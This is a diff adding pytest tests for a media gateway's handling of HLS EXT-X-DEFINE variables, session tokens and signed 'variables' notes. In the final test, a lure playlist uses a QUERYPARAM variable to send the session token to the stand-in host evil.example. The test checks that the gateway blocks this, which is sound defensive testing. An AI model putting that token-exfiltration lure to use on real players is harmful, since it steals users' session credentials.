@@ -1,0 +1,117 @@
+"""EXT-X-DEFINE through the gateway: a media playlist imports what its multivariant playlist defines."""
+
+from __future__ import annotations
+
+from urllib.parse import quote
+
+import pytest
+
+from tests.scripted_origin import Origin, answer
+from tests.service import Service
+
+HLS = "application/vnd.apple.mpegurl"
+MULTIVARIANT = b"""#EXTM3U
+#EXT-X-DEFINE:NAME="dir",VALUE="segments"
+#EXT-X-DEFINE:QUERYPARAM="q"
+#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="audio.m3u8"
+#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"
+media.m3u8?lang=en
+#EXT-X-SESSION-DATA:DATA-ID="x",URI="data.json"
+"""
+MEDIA = b"""#EXTM3U
+#EXT-X-TARGETDURATION:4
+#EXT-X-DEFINE:IMPORT="dir"
+#EXT-X-DEFINE:IMPORT="q"
+#EXT-X-DEFINE:QUERYPARAM="lang"
+#EXTINF:4,
+{$dir}/1.ts?q={$q}&l={$lang}
+#EXT-X-ENDLIST
+"""
+
+
+@pytest.fixture(autouse=True)
+def stream(origin: Origin) -> None:
+    origin.scripts["/v/main.m3u8"] = answer(MULTIVARIANT, 200, Content_Type=HLS)
+    origin.scripts["/v/media.m3u8"] = origin.scripts["/v/audio.m3u8"] = answer(MEDIA, 200, Content_Type=HLS)
+    origin.scripts["/v/segments/1.ts"] = answer(b"video", 200, Content_Type="video/mp2t")
+
+
+def lines(service: Service, path: str) -> list[str]:
+    reply = service.get(path)
+    assert reply.status == 200, reply.body
+    return reply.body.decode().splitlines()
+
+
+def start(service: Service, origin: Origin, token: dict[str, str]) -> list[str]:
+    return service.media(f"{origin.url}/v/main.m3u8?q=a%2Bb", token).body.decode().splitlines()
+
+
+def test_what_a_media_playlist_imports_leads_through_the_gateway(
+    service: Service, origin: Origin, token: dict[str, str]
+) -> None:
+    main = start(service, origin, token)
+    assert main[2] == '#EXT-X-DEFINE:NAME="q",VALUE="a+b"'
+    segment = lines(service, main[5])[6]
+    assert segment.startswith("/play/")
+    assert service.get(segment).body == b"video"
+    assert origin.asked[-2:][0][1] == "/v/media.m3u8?lang=en"
+    assert origin.asked[-1][1] == "/v/segments/1.ts?q=a+b&l=en"
+
+
+def test_only_media_playlists_are_told_of_variables(service: Service, origin: Origin, token: dict[str, str]) -> None:
+    main = start(service, origin, token)
+    assert ["sluicegate.variables=" in line for line in main] == [False, False, False, True, False, True, False]
+    assert len({line.partition("/play/")[2].partition("/")[0] for line in main if "/play/" in line}) == 1
+
+
+def test_a_query_that_the_player_sees_is_left_to_it(service: Service, origin: Origin, token: dict[str, str]) -> None:
+    main = start(service, origin, token)
+    assert lines(service, main[5])[4] == '#EXT-X-DEFINE:QUERYPARAM="lang"'
+
+
+@pytest.mark.parametrize("change", ["other-session", "other-playlist", "cut", "grant"])
+def test_variables_that_were_noted_for_another_are_refused(
+    service: Service, origin: Origin, token: dict[str, str], change: str
+) -> None:
+    main = start(service, origin, token)
+    grant = main[5].split("/")[2]
+    path, _, note = main[5].partition("sluicegate.variables=")
+    if change == "other-session":
+        other = {"X-Session-Token": service.token(service.add_key("other", "standard"))}
+        note = start(service, origin, other)[5].partition("sluicegate.variables=")[2]
+    if change == "other-playlist":
+        note = main[3].partition("sluicegate.variables=")[2].partition('"')[0]
+    if change == "cut":
+        note = note[:-1]
+    if change == "grant":
+        note = grant
+    reply = service.get(f"{path}sluicegate.variables={note}")
+    assert (reply.status, reply.json["error"]) == (401, "Invalid or expired session token")
+
+
+def test_a_note_opens_nothing(service: Service, origin: Origin, token: dict[str, str]) -> None:
+    main = start(service, origin, token)
+    note = main[5].partition("sluicegate.variables=")[2]
+    assert service.get(f"/play/{note}/{origin.url.removeprefix('http://')}/v/media.m3u8").status == 401
+    assert service.media(f"{origin.url}/v/main.m3u8", {"X-Session-Token": note}).status == 401
+
+
+def test_more_variables_than_can_be_noted_are_an_error_that_says_so(
+    service: Service, origin: Origin, token: dict[str, str]
+) -> None:
+    long = b'#EXT-X-DEFINE:NAME="l",VALUE="%s"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nm.m3u8\n' % (b"x" * 5000)
+    origin.scripts["/v/long.m3u8"] = answer(b"#EXTM3U\n" + long, 200, Content_Type=HLS)
+    reply = service.media(f"{origin.url}/v/long.m3u8", token)
+    assert reply.status == 502
+    assert "variables" in reply.json["detail"]
+
+
+def test_a_playlist_cannot_make_a_player_carry_its_token_away(
+    service: Service, origin: Origin, token: dict[str, str]
+) -> None:
+    lure = b'#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="token"\n#EXTINF:4,\nhttps://evil.example/?t={$token}\n{$token}.ts\n'
+    origin.scripts["/v/lure.m3u8"] = answer(lure, 200, Content_Type=HLS)
+    url = quote(f"{origin.url}/v/lure.m3u8", safe="")
+    body = service.get(f"/api?url={url}&token={token['X-Session-Token']}").body.decode()
+    assert "{$" not in body
+    assert all(line.startswith(("#", "/play/")) for line in body.splitlines())
